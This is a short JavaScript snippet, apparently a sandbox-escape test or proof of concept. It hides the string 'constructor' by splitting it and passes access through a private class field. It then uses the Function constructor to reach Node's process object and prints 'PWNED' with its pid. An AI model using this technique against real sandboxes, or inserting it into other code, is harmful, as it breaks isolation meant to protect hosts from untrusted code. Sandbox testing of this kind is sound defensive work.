'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class K { #a = t; get() { return this.#a; } }
const o = Date.now() > 1 ? new K().get() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
